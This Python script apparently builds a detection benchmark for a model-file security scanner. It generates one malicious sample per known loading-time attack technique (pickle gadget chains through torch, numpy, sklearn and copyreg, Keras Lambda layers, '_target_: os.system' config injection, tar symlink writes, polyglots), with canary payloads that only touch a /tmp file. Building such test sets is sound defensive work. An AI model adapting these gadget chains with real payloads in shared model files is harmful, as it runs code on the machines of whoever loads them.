"""The labelled sets of `bench_scanning.py --detection`: one malicious sample per technique of the 2025-26
research (issue 11), built from raw bytes with harmless canary payloads (they touch a file under /tmp), and the
benign real models that tests/scanning/benign_models.py has the real frameworks write.

    python benchmarks/detection_set.py WORKDIR    # writes WORKDIR/research-2025 and WORKDIR/real-models
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import shutil
import struct
import sys
import tarfile
import zipfile
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from tests.scanning.pickles import call, global_, stack_global, stop, tuple_, unicode  # noqa: E402

CANARY = "/tmp/modelseal-canary"
MARK, BUILD, EMPTY_DICT = b"(", b"b", b"}"


def _touch() -> bytes:
    return call(global_("pathlib", "Path"), unicode(CANARY))


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _keras(layer: dict[str, object]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
    return _zip({"config.json": json.dumps(config).encode(), "metadata.json": b'{"keras_version": "3.8.0"}'})


def _safetensors(metadata: dict[str, str]) -> bytes:
    header = json.dumps({"__metadata__": metadata, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}})
    return struct.pack("<Q", len(header)) + header.encode() + b"\0" * 4


def malicious_samples() -> dict[str, bytes]:
    """technique file name -> bytes. Every sample runs its canary (or reads/writes a file) when loaded."""
    touch = _touch()
    rebuild = global_("torch._tensor", "_rebuild_from_type_v2")
    partial_state = tuple_(global_("pathlib", "Path.touch"), tuple_(touch), EMPTY_DICT, b"N")
    two_configs = io.BytesIO()
    with zipfile.ZipFile(two_configs, "w") as archive:
        archive.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": []}}))
        lambda_layer = {"class_name": "Lambda", "config": {"function": "lambda x: __import__('os').system('true')"}}
        archive.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": [lambda_layer]}}))
    tar_buffer = io.BytesIO()
    with tarfile.open(fileobj=tar_buffer, mode="w") as tar:
        link = tarfile.TarInfo("weights")
        link.type, link.linkname = tarfile.SYMTYPE, "/tmp"
        tar.addfile(link)
        member = tarfile.TarInfo("weights/modelseal-canary")
        member.size = 1
        tar.addfile(member, io.BytesIO(b"x"))
    npy_header = b"{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    npy_header += b" " * (63 - (len(npy_header) + 10) % 64) + b"\n"
    return {
        "rebuild_from_type_v2.pkl": stop(
            call(rebuild, global_("pathlib", "Path.touch"), global_("torch", "Tensor"), tuple_(touch), EMPTY_DICT)
        ),
        "numpy_randomstate_ctor.pkl": stop(
            call(global_("numpy.random._pickle", "__randomstate_ctor"), touch, global_("pathlib", "Path.touch"))
        ),
        "partial_setstate.pkl": stop(
            call(global_("functools", "partial"), global_("builtins", "len")) + partial_state + BUILD + b")R"
        ),
        "contract_after_16_literals.pt": stop(
            call(
                global_("torch.jit._pickle", "build_intlist"),
                MARK + b"K\x01" * 20 + global_("pathlib", "Path.touch") + b"l",
            )
        ),
        "module_alias_traversal.pkl": stop(call(stack_global("sklearn.utils", "np.load"), unicode(CANARY))),
        "dataframe_to_csv_pth.pkl": stop(call(stack_global("pandas.core.frame", "DataFrame.to_csv"), unicode(CANARY))),
        "global_forward_hook.pkl": stop(
            call(global_("torch.nn.modules.module", "register_module_forward_hook"), global_("builtins", "print"))
        ),
        "numpy_private_load.pkl": stop(call(global_("numpy.lib._npyio_impl", "load"), unicode(CANARY), b"\x88")),
        "sklearn_fetch_remote.pkl": stop(call(global_("sklearn.datasets._base", "_fetch_remote"), unicode("data:,x"))),
        "typing_forward_ref.pkl": stop(call(global_("typing", "get_type_hints"), touch)),
        "dataclasses_create_fn.pkl": stop(
            call(global_("dataclasses", "_create_fn"), unicode("f"), tuple_(), unicode("pass"))
        ),
        "torch_import_dotted_name.pkl": stop(
            call(global_("torch._utils", "_import_dotted_name"), unicode("os.getcwd"))
        ),
        "sleepy_pickle_class_build.pkl": stop(
            global_("torch.nn.modules.linear", "Linear")
            + EMPTY_DICT
            + unicode("forward")
            + global_("builtins", "print")
            + b"s"
            + BUILD
        ),
        "copyreg_extension_poison.pkl": stop(
            call(global_("copyreg", "add_extension"), unicode("pathlib"), unicode("Path"), b"K\xf0")
            + b"0"
            + b"\x82\xf0"
            + tuple_(unicode(CANARY))
            + b"R"
        ),
        "keras_torch_module_wrapper.keras": _keras(
            {
                "class_name": "TorchModuleWrapper",
                "module": "keras.layers",
                "config": {"module": base64.b64encode(stop(call(global_("pathlib", "Path.touch"), touch))).decode()},
            }
        ),
        "keras_two_configs.keras": two_configs.getvalue(),
        "safetensors_metadata_target.safetensors": _safetensors(
            {"config": json.dumps({"_target_": "pathlib.Path.touch", "self": CANARY})}
        ),
        "hf_config_nested_target.json": json.dumps(
            {"model_type": "bert", "head": {"_target_": "os.system", "_args_": ["true"]}}
        ).encode(),
        "nemo_model_config.yaml": b"model:\n  encoder:\n    _target_: builtins.exec\n    _args_: ['pass']\n",
        "compiled_module.pyc": (3495).to_bytes(2, "little") + b"\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 40,
        "r_promise.rds": gzip.compress(b"X\n\x00\x00\x00\x03" + b"\x00" * 64),
        "tar_symlink_write.tar": tar_buffer.getvalue(),
        "npy_structured_object.npy": b"\x93NUMPY\x01\x00"
        + struct.pack("<H", len(npy_header))
        + npy_header
        + stop(call(global_("pathlib", "Path.touch"), touch)),
        "safetensors_zip_polyglot.safetensors": _safetensors({})
        + _zip({"archive/data.pkl": stop(call(global_("pathlib", "Path.touch"), touch))}),
        "jinja_concat_attr.jinja": b"{% set a = '__cla' ~ 'ss__' %}{{ ''|attr(a) }}",
    }


def build(work: Path) -> dict[str, list[tuple[Path, str]]]:
    """Write both sets under `work`; return set name -> [(file, label)]."""
    from tests.scanning.benign_models import PRODUCERS

    research = work / "research-2025"
    shutil.rmtree(research, ignore_errors=True)
    research.mkdir(parents=True)
    for name, data in malicious_samples().items():
        (research / name).write_bytes(data)
    real = work / "real-models"
    if not real.exists():
        for name, produce in PRODUCERS.items():
            (real / name).mkdir(parents=True)
            produce(real / name)
    return {
        "research-2025 (malicious)": [(p, "malicious") for p in sorted(research.iterdir())],
        "real models (benign)": [(p, "benign") for p in sorted(real.rglob("*")) if p.is_file()],
    }


if __name__ == "__main__":
    for label, files in build(Path(sys.argv[1])).items():
        print(f"{label}: {len(files)} files")
